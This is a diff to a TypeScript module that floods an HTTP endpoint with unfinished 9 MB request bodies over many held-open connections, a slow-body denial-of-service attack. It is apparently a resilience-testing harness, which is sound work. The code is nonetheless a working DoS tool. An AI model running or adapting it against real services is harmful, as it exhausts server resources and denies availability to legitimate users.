@@ -1,5 +1,6 @@
 // A visitor's flood of unfinished bodies: nine megabytes are announced or streamed on each connection and never end.
 import { connect, type Socket } from 'node:net'
+import { setTimeout as sleep } from 'node:timers/promises'
 import type { FloodTarget } from './pictures.ts'
 
 export interface HeldBodies {
@@ -10,6 +11,9 @@ export interface HeldBodies {
 
 const BODY_BYTES = 9 * 1024 * 1024
 const CHUNK = Buffer.alloc(64 * 1024, 32)
+const CHUNK_IN_FRAME = Buffer.concat([Buffer.from(`${CHUNK.length.toString(16)}\r\n`), CHUNK, Buffer.from('\r\n')])
+/** With 500 connections as much as a line of a gigabit carries: more would measure this machine's loopback. */
+const PAUSE_MS = 250
 
 export async function floodBodies({ url, anonKey, connections, signal }: FloodTarget): Promise<HeldBodies> {
   const { port, hostname } = new URL(url)
@@ -26,14 +30,12 @@ export async function floodBodies({ url, anonKey, connections, signal }: FloodTa
     const isChunked = lane % 2 === 1
     const length = isChunked ? 'Transfer-Encoding: chunked' : `Content-Length: ${BODY_BYTES}`
     let sent = 0
-    const write = () => {
+    const write = async () => {
       while (sent < BODY_BYTES - CHUNK.length && !socket.destroyed && !signal.aborted) {
         sent += CHUNK.length
         sentBytes += CHUNK.length
-        const piece = isChunked
-          ? Buffer.concat([Buffer.from(`${CHUNK.length.toString(16)}\r\n`), CHUNK, Buffer.from('\r\n')])
-          : CHUNK
-        if (!socket.write(piece)) return
+        socket.write(isChunked ? CHUNK_IN_FRAME : CHUNK)
+        await sleep(PAUSE_MS)
       }
     }
     let isOver = false
@@ -46,9 +48,8 @@ export async function floodBodies({ url, anonKey, connections, signal }: FloodTa
       socket.write(
         `POST /rest/v1/rpc/application_state HTTP/1.1\r\nHost: o1\r\napikey: ${anonKey}\r\nContent-Type: application/json\r\n${length}\r\n\r\n`,
       )
-      write()
+      void write()
     })
-    socket.on('drain', write)
     // An attacker opens the next when one is ended.
     socket.on('data', over)
     socket.on('error', over)
